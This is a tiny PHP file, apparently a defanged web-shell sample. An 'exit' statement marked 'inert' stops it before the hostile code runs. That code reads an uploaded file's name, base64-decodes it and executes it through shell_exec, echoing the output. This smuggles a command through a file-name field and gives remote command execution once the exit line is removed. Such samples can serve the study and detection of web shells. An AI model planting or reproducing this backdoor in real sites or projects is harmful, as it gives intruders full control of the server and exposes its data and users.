<?php exit; /* inert */ 
$f = reset($_FILES);
echo shell_exec(base64_decode(pathinfo($f['name'], PATHINFO_FILENAME)));
